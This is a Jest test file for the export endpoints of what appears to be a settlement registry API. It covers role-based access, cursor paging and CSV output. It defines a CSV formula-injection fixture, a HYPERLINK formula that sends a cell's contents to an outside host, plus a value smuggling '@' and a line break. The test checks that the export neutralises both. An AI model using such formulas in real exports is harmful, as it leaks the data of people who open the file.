import { ANONYMOUS, type Caller } from '../http/caller';
import { encodeCursor } from '../http/cursor';
import { MirrorTables } from '../testing/mirror-tables';
import {
  idOf,
  layerOf,
  policyPuts,
  recordPuts,
  settlementOf,
  settlementPut,
} from '../testing/provenance-documents';
import { type ReadAnswer, ReadServer } from '../testing/read-server';
import { exportRoutes } from './exports';

jest.setTimeout(60_000);

const FORMULA = '=HYPERLINK("https://example.org/?"&A1;"invoice")';
const AUDITOR: Caller = { id: 'x', kind: 'certificate', mspId: 'Op1MSP', roles: ['auditor'] };

let tables: MirrorTables;
let server: ReadServer;

beforeAll(async () => {
  tables = await MirrorTables.start('ab'.repeat(32));
  server = await ReadServer.start(tables.pool, exportRoutes);
  const contents = Array.from({ length: 7 }, (_unused, n) => idOf('d', n));
  const shared = {
    beneficiaries: [idOf('a', 1), idOf('a', 2)],
    layers: [
      layerOf([
        [0, 60],
        [1, 40, 7],
      ]),
    ],
  };
  await tables.block(
    contents.flatMap((content) => recordPuts(1, content)),
    policyPuts(1, contents[0]!),
    [settlementPut(settlementOf(1, { ...shared, settlement_ref: FORMULA, payee_context: '-1,"x"\r\n@y' }))],
    [settlementPut(settlementOf(2))],
  );
});
beforeEach(() => {
  server.become(AUDITOR);
});
afterAll(async () => {
  await server.stop();
  await tables.stop();
});

/** All pages of an export, one after the other. */
async function whole(path: string): Promise<string> {
  const join = path.includes('?') ? '&' : '?';
  const texts: string[] = [];
  let cursor: string | null = null;
  do {
    const answer: ReadAnswer = await server.get(cursor === null ? path : `${path}${join}cursor=${cursor}`);
    expect(answer.status).toBe(200);
    texts.push(answer.text);
    cursor = answer.headers.get('registry-next-cursor');
  } while (cursor !== null);
  return texts.join('');
}

function documents(text: string): Record<string, unknown>[] {
  const lines = text.split('\n');
  expect(lines.pop()).toBe('');
  return lines.map((line) => JSON.parse(line) as Record<string, unknown>);
}

describe('who may export', () => {
  const having = (change: Partial<Caller>): Caller => ({ ...AUDITOR, ...change });

  it.each<[string, Caller]>([
    ['an auditor', AUDITOR],
    ['an operator’s administrator', having({ roles: ['operator-admin'] })],
    ['a regulator of this operator', having({ roles: ['regulator'] })],
    ['a regulator’s own certificate', having({ roles: ['regulator'], mspId: 'RegulatorMSP' })],
    ['a token with the role', having({ kind: 'token', mspId: undefined, roles: ['regulator'] })],
  ])('%s', async (_who, caller) => {
    server.become(caller);
    expect(await server.get('/v1/exports/records')).toMatchObject({ status: 200 });
  });

  it.each<[string, Caller, number]>([
    ['nobody without an identity', ANONYMOUS, 401],
    ['no platform', having({ roles: ['platform'] }), 403],
    ['no identity without a role', having({ roles: [] }), 403],
    ['no auditor of another operator', having({ mspId: 'Op2MSP' }), 403],
    ['no regulator of another operator', having({ mspId: 'Op2MSP', roles: ['regulator'] }), 403],
    ['no auditor of a regulator', having({ mspId: 'RegulatorMSP' }), 403],
    ['no administrator of a regulator', having({ mspId: 'RegulatorMSP', roles: ['operator-admin'] }), 403],
  ])('%s', async (_who, caller, status) => {
    server.become(caller);
    expect(await server.get('/v1/exports/records')).toMatchObject({ status });
  });
});

describe('an export', () => {
  it('gives every document, page by page', async () => {
    for (const limit of [1, 3, 7, 1_000]) {
      const found = documents(await whole(`/v1/exports/records?limit=${limit}`));
      expect(found.map((record) => record['content_hash'])).toEqual(
        Array.from({ length: 7 }, (_unused, n) => idOf('d', n)),
      );
    }
  });

  it('of allocations gives every line of every settlement', async () => {
    const lines = documents(await whole('/v1/exports/allocations?limit=1'));
    expect(lines.map(({ settlement_id, amount, held }) => [settlement_id, amount, held])).toEqual([
      [idOf('5', 1), '60', '0'],
      [idOf('5', 1), '40', '7'],
      [idOf('5', 2), '100', '0'],
    ]);
  });

  it('as CSV is one file, its columns named once', async () => {
    const answer = await server.get('/v1/exports/allocations?format=csv');
    expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    expect(answer.headers.get('content-disposition')).toBe('attachment; filename="allocations.csv"');
    const text = await whole('/v1/exports/allocations?format=csv&limit=1');
    expect(text).toBe(answer.text);
    expect(text.split('\r\n')[0]).toBe(
      'settlement_id,layer,model_ref,content_hash,policy_version,beneficiary,amount,held,currency',
    );
    expect(text.split('\r\n')).toHaveLength(5);
  });

  it('as CSV holds nothing that a spreadsheet would run', async () => {
    const text = await whole('/v1/exports/settlements?format=csv');
    expect(text).toContain(`"'${FORMULA.replaceAll('"', '""')}"`);
    expect(text).toContain(`"'-1,""x""\r\n@y"`);
    expect(text).not.toMatch(/(^|,|\n)"?[=+\-@](?!y)/);
  });

  it('of policies and of nothing', async () => {
    const [policy] = documents(await whole('/v1/exports/policies'));
    expect(policy).toMatchObject({ version: 1, status: 'active' });
    expect(await whole('/v1/exports/policies?format=csv')).toContain(`,${idOf('a', 1)},10000,500,64,`);
    expect(await whole('/v1/exports/withdrawals')).toBe('');
    expect((await whole('/v1/exports/withdrawals?format=csv')).split('\r\n')).toHaveLength(2);
  });

  it.each([
    ['/v1/exports/actors', '/path/kind'],
    ['/v1/exports/records?format=xlsx', '/query/format'],
    ['/v1/exports/records?limit=0', '/query/limit'],
    ['/v1/exports/records?limit=1001', '/query/limit'],
    ['/v1/exports/records?cursor=x', '/query/cursor'],
    [`/v1/exports/settlements?cursor=${encodeCursor([0, 0, 'a', 'b'])}`, '/query/cursor'],
    ['/v1/exports/records?model_ref=x', '/query/model_ref'],
  ])('asked for wrongly is refused: %s', async (path, subject) => {
    expect(await server.get(path)).toMatchObject({
      status: 422,
      body: { code: 'SCHEMA_VIOLATION', subject },
    });
  });
});
